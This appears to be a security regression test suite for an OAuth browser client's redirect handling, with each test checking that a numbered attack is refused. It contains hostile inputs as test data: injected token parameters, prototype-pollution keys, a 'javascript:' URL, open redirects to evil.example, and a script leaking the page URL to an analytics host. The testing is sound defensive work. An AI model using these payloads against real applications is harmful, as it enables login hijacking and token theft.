// Attacks that worked on published clients, by their numbers in docs/attacks.md.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { eachEntry, openApp, OPTIONS, response, useApp } from './harness/page.mjs';
import { countStorage, readStores, takeOperations, writeStore } from './harness/store.mjs';

const at = (text) => OPTIONS.redirect_uri + text;

eachEntry((entry) => {
  const app = useApp({ entry, init: [countStorage] });

  /** The response is refused with this code and scrubbed, and nobody is signed in by it. */
  async function refuse(url, code, options = OPTIONS) {
    const { thrown } = await app.receive(url, options);
    assert.equal(thrown?.code, code);
    assert.equal((await app.place()).url, OPTIONS.redirect_uri);
    assert.equal(await app.token(options), null);
    return thrown;
  }

  /** The login under way can still be finished, with what it was given. */
  async function finish(state) {
    const { value } = await app.handleRedirect(OPTIONS, response(state));
    assert.equal(value?.token.access_token, 'AT');
    return value;
  }

  test('attack 01: a state that names another storage key reaches nothing', async () => {
    const { state } = await app.startLogin();
    const junk = { 'user:https://as.example:spa': 'a session', 'claviger:x': 'a short name', __proto__x: '1' };
    await writeStore(app, junk);
    await writeStore(app, junk, 'local');
    const before = await readStores(app);
    const [place] = Object.keys(before.session).filter((key) => !(key in junk));
    assert.match(place, /^claviger:[A-Za-f]$/);
    for (const name of [...Object.keys(junk), place, place.slice('claviger:'.length), '__proto__', 'x', 'length']) {
      await takeOperations(app);
      await refuse(at(`#access_token=EVIL&token_type=Bearer&state=${encodeURIComponent(name)}`), 'unknown_state');
      assert.deepEqual(await takeOperations(app), [], name);
    }
    assert.deepEqual(await readStores(app), before);
    await finish(state);
  });

  test('attack 02: a state that is decoded once throws no URIError', async () => {
    for (const [state, code] of [['%25', 'unknown_state'], ['%2525', 'unknown_state'], ['%', 'malformed_response']]) {
      const thrown = await refuse(at(`#access_token=AT&token_type=Bearer&state=${state}`), code);
      assert.equal(thrown.name, 'OAuthError');
    }
  });

  test('attack 04: a response of another issuer is refused', async () => {
    const { state } = await app.startLogin();
    await refuse(response(state, { more: '&iss=https%3A%2F%2Fevil.example' }), 'issuer_mismatch');
  });

  test('attack 05: a forged code ends no login under way', async () => {
    const { state } = await app.startLogin();
    await refuse(at('?code=junk&state=attacker'), 'unknown_state');
    await finish(state);
  });

  test('attack 06: a forged error is not believed, and gets nothing of the login under way', async () => {
    const { state } = await app.startLogin(OPTIONS, { login: { appState: 'of the victim' } });
    const thrown = await refuse(at('#error=access_denied&error_description=words&state=attacker'), 'unknown_state');
    assert.deepEqual([thrown.error, thrown.error_description], [undefined, undefined]);
    assert.doesNotMatch(JSON.stringify(thrown), /victim|access_denied|words/);
    assert.equal((await finish(state)).appState, 'of the victim');
  });

  test('attack 09: a response without state does not stay in the address bar', async () => {
    await refuse(at('#access_token=AT&token_type=Bearer'), 'missing_state');
  });

  test('attack 10: of a repeated token neither is used, and neither stays', async () => {
    const { state } = await app.startLogin();
    await refuse(at(`#access_token=A&access_token=B&token_type=Bearer&state=${state}`), 'duplicate_parameter');
  });

  test('attack 15: a malformed escape leaves no half of a response', async () => {
    const { state } = await app.startLogin();
    await refuse(at(`#access_token=GARBAGE&token_type=Bearer&state=${state}&iss=%zz`), 'malformed_response');
    assert.doesNotMatch(JSON.stringify(await readStores(app)), /GARBAGE/);
  });

  test('attack 16: leaving the state out skips no check while a login is under way', async () => {
    const { state } = await app.startLogin();
    for (const parameters of ['access_token=EVIL&token_type=Bearer', 'error=access_denied', 'code=junk']) {
      await refuse(at(`#${parameters}`), 'missing_state');
    }
    await finish(state);
  });

  test('attack 17: a value keeps what follows its second =, and no message has the expected state', async () => {
    const { state } = await app.startLogin();
    const { value } = await app.receive(at(`#access_token=YWJj==&token_type=Bearer&state=${state}`));
    assert.equal(value?.token.access_token, 'YWJj==');
    const second = await app.startLogin();
    const thrown = await refuse(at('?code=YWJj==&state=wrong'), 'unknown_state');
    assert.ok(!JSON.stringify(thrown).includes(second.state));
  });

  test('attack 18: a value that holds & or ? injects nothing', async () => {
    const first = await app.startLogin();
    await refuse(response(`${first.state}%26access_token%3DEVIL`, { token: 'GOOD' }), 'unknown_state');
    const { state } = await app.startLogin();
    const { value } = await app.receive(response(state, { token: 'GOOD', more: '&scope=a?access_token=EVIL' }));
    assert.deepEqual([value?.token.access_token, value?.token.scope], ['GOOD', 'a?access_token=EVIL']);
  });

  test('attack 19: the same fragment does not work twice', async () => {
    const { state } = await app.startLogin();
    assert.ok((await app.receive(response(state))).value);
    await refuse(response(state), 'state_replayed');
  });

  test('attack 23: cleaning the URL leaves promocode alone', async () => {
    const { state } = await app.startLogin();
    const own = 'promocode=X&mycode=1&xstate=2';
    await app.receive(at(`?${own}&state=${state}#promocode=Y&access_token=AT&token_type=Bearer&restate=3`));
    assert.equal((await app.place()).url, at(`?${own}`));
  });

  test("attack 25: a parameter named hasOwnProperty does no harm, and a state of one provider is none of another's", async () => {
    const { state } = await app.startLogin();
    const other = { ...OPTIONS, server: { authorization_endpoint: 'https://other.example/authorize' } };
    await refuse(response(state), 'state_wrong_client', other);
    const { value } = await app.receive(response(state, { more: '&hasOwnProperty=1&__proto__=x&constructor=y' }));
    assert.equal(value?.token.access_token, 'AT');
    assert.equal(await app.evaluate(() => Object.keys(Object.prototype).length + String({}.x)), '0undefined');
  });

  test('attack 26: an unreadable expires_in is no eternity, and a missing token_type puts no token into a query', async () => {
    for (const expiry of ['abc', '1e9', '2030-01-01']) {
      const { state } = await app.startLogin();
      await refuse(at(`#access_token=AT&token_type=Bearer&state=${state}&expires_in=${expiry}`), 'malformed_response');
    }
    const options = { ...OPTIONS, resources: ['https://api.example'] };
    const { state } = await app.startLogin(options);
    await refuse(at(`#access_token=AT&state=${state}`), 'missing_token_type', options);
    const { thrown } = await app.evaluate(
      (options) => settle(async () => (await clientFor(options)).fetch('https://api.example/me')),
      options,
    );
    assert.equal(thrown?.code, 'login_required');
    assert.deepEqual(app.requests, []);
  });

  test('attack 27: no message, stack or property of an error quotes the callback URL', async () => {
    const { state } = await app.startLogin();
    const secret = 'PLANTED';
    const bad = [
      `#access_token=${secret}&token_type=Bearer`,
      `#access_token=${secret}&token_type=Bearer&state=${secret}`,
      `#access_token=${secret}&access_token=${secret}&token_type=Bearer&state=${state}`,
      `#access_token=${secret}%&token_type=Bearer&state=${state}`,
      `#error=${secret}&state=attacker`,
      `?access_token=${secret}&token_type=Bearer&state=attacker`,
      `#access_token=${secret}${'x'.repeat(140_000)}&token_type=Bearer&state=${state}`,
      `#access_token=${secret}&token_type=${secret}&state=${state}`,
    ];
    for (const text of bad) {
      const { thrown } = await app.receive(at(text));
      assert.equal(thrown?.name, 'OAuthError');
      assert.doesNotMatch(JSON.stringify(thrown), new RegExp(`${secret}|${state}|/cb[?#]`));
    }
  });

  test('attack 28: a response without state is refused where no login is under way, an empty state too', async () => {
    for (const state of ['', '&state', '&state=']) {
      await refuse(at(`#access_token=EVIL&token_type=Bearer${state}`), 'missing_state');
    }
  });

  test('attack 31: nothing in a response is navigated to', async () => {
    const evil = encodeURIComponent('javascript:globalThis.isOwned=true');
    const page = encodeURIComponent('{"page_uri":"//evil.example","network":"x"}');
    for (const text of [`#oauth_redirect=${evil}`, `#state=${page}`]) {
      assert.deepEqual(await app.receive(at(text)), { value: null });
      assert.equal((await app.place()).url, OPTIONS.redirect_uri);
    }
    const { state } = await app.startLogin();
    const more = `&oauth_redirect=${evil}&returnTo=//evil.example&return_to=//evil.example&redirect_uri=//evil.example`;
    const { value } = await app.receive(response(state, { more }));
    assert.deepEqual(Object.keys(value), ['token']);
    assert.equal(await app.evaluate(() => globalThis.isOwned), undefined);
    assert.deepEqual(app.requests, []);
  });

  test('attack 39: the last duplicate of a state does not win, and a state holds 256 random bits', async () => {
    const { state } = await app.startLogin();
    await refuse(response('attacker', { more: `&state=${state}` }), 'duplicate_parameter');
    const states = await app.evaluate(async (options) => {
      const client = await clientFor(options);
      const urls = await Promise.all(Array.from({ length: 64 }, () => client.authorizationUrl()));
      return urls.map((url) => url.searchParams.get('state'));
    }, OPTIONS);
    assert.ok(states.every((state) => /^[\w-]{43}$/.test(state)));
    assert.equal(new Set(states.map((state) => state.slice(0, 8))).size, states.length);
    // Each position varies, so no part of a state is made of anything but chance.
    const positions = Array.from({ length: 43 }, (_, at) => new Set(states.map((state) => state[at])).size);
    assert.ok(positions.every((values) => values > 8), String(positions));
  });

  test('attack 41: the scrub adds no entry to the history, and Back and Forward show no token', async (t) => {
    const app = await openApp(t, { entry });
    await app.open('/start');
    const { state } = await app.startLogin();
    await app.open(response(state));
    const { entries } = await app.place();
    assert.ok((await app.handleRedirect()).value);
    assert.equal((await app.place()).entries, entries);
    await app.page.goBack({ waitUntil: 'commit' });
    assert.equal((await app.place()).url, 'https://app.example/start');
    await app.page.goForward({ waitUntil: 'commit' });
    assert.equal((await app.place()).url, OPTIONS.redirect_uri);
    const history = await app.history();
    assert.deepEqual(history.slice(-2), ['https://app.example/start', OPTIONS.redirect_uri]);
  });

  test('attack 42: no other script, referrer or frame sees the response', async (t) => {
    const see = 'globalThis.seen = [location.href, document.URL, navigation.currentEntry.url];';
    const app = await openApp(t, {
      entry,
      head: '<script src="/pkg/wasm/early.js"></script><script src="/analytics.js"></script>',
      scripts: { '/analytics.js': `${see} new Image().src = 'https://analytics.example/?page=' + encodeURIComponent(location.href);` },
      headers: { 'referrer-policy': 'unsafe-url' },
    });
    await app.open('/start');
    const { state } = await app.startLogin();
    const denied = await app.startLogin();
    for (const url of [response(state, { token: 'PLANTED' }), at(`?error=access_denied&state=${denied.state}`)]) {
      await app.open(url);
      assert.deepEqual(await app.evaluate(() => globalThis.seen), Array(3).fill(OPTIONS.redirect_uri));
      await app.handleRedirect();
      await app.evaluate(() => fetch('https://analytics.example/event'));
      const referrer = await app.evaluate(async () => {
        const frame = document.body.appendChild(document.createElement('iframe'));
        frame.src = '/frame';
        await new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
        return frame.contentDocument.referrer;
      });
      assert.equal(referrer, OPTIONS.redirect_uri);
      await app.open('/start');
    }
    assert.ok(app.requests.length >= 4 && app.requests.some(({ headers }) => headers.referer === OPTIONS.redirect_uri));
    assert.doesNotMatch(JSON.stringify(app.requests), new RegExp(`PLANTED|${state}|${denied.state}|access_denied`));
  });
});
